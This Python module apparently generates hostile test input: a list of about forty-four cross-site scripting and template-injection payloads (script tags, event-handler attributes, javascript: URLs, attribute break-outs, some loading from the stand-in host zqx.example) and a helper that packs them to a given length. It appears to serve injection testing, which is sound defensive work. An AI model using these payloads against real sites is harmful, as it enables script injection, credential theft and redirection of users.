"""What somebody types who wants a page to do their bidding. Each carries MARK where it would take effect."""

from __future__ import annotations

from itertools import cycle, islice

MARK = "zqx"
BREAKS_OUT = "\"'><zqx>"

PAYLOADS = (
    "<script>zqx()</script>",
    "<SCRIPT SRC=//zqx.example/x></SCRIPT>",
    "</script><script>zqx()</script>",
    "</title><script>zqx()</script>",
    "</textarea><script>zqx()</script>",
    "</style><script>zqx()</script>",
    "</option></select><zqx>",
    "<img src=x onerror=zqx()>",
    "<img/src='x'/onerror='zqx()'>",
    "<svg onload=zqx()>",
    "<svg><script>zqx()</script></svg>",
    "<svg/onload=&#122;qx()>",
    "<body onload=zqx()>",
    "<iframe srcdoc='<script>zqx()</script>'>",
    "<iframe src=javascript:zqx()>",
    "<a href=javascript:zqx()>x</a>",
    "<a href='java\tscript:zqx()'>x</a>",
    "<object data=data:text/html,zqx>",
    "<embed src=//zqx.example>",
    "<base href=//zqx.example/>",
    "<form action=//zqx.example><input name=zqx>",
    "<input autofocus onfocus=zqx()>",
    "<details open ontoggle=zqx()>",
    "<video><source onerror=zqx()></video>",
    "<meta http-equiv=refresh content='0;url=//zqx.example'>",
    "<link rel=stylesheet href=//zqx.example>",
    "<style>@import'//zqx.example'</style>",
    "<math><mi xlink:href=javascript:zqx()>x</mi></math>",
    "<template><zqx></template>",
    "<!--><zqx>-->",
    "<![CDATA[<zqx>]]>",
    '" onmouseover="zqx()" x="',
    "' onmouseover='zqx()' x='",
    '"><zqx x="',
    "'><zqx x='",
    "` onmouseover=zqx() `",
    "javascript:zqx()",
    "{{ zqx }}{% zqx %}",
    "{% include 'zqx' %}",
    "&lt;zqx&gt;<zqx>",
    "\u2028<zqx>\u2029",
    "＜zqx＞<zqx>",
    "%(zqx)s %s {zqx} {0}<zqx>",
    "<div hx-get=//zqx.example hx-trigger=load>",
)

_next = cycle(PAYLOADS)


def hostile(length: int) -> str:
    """What breaks out of a text and of an attribute alike, and the next payloads, as many as fit."""
    words = BREAKS_OUT
    for payload in islice(_next, len(PAYLOADS)):
        if len(words) + len(payload) > length:
            return words
        words += payload
    return words
